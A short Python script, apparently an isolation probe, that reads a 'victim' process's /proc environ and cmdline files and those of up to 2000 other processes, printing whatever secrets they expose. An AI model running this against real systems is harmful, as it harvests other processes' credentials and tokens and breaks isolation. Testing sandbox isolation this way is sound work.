"""Reads the environment of another process, and its own, which may be inherited."""

import contextlib
import glob
import json
import os

with open("targets.json") as file:
    victim = json.load(file)["victim"]

print(dict(os.environ))
for path in (f"/proc/{victim}/environ", f"/proc/{victim}/cmdline", *glob.glob("/proc/*/environ")[:2000]):
    with contextlib.suppress(OSError), open(path, errors="replace") as found:
        print(found.read(4000))
print("TRIED")
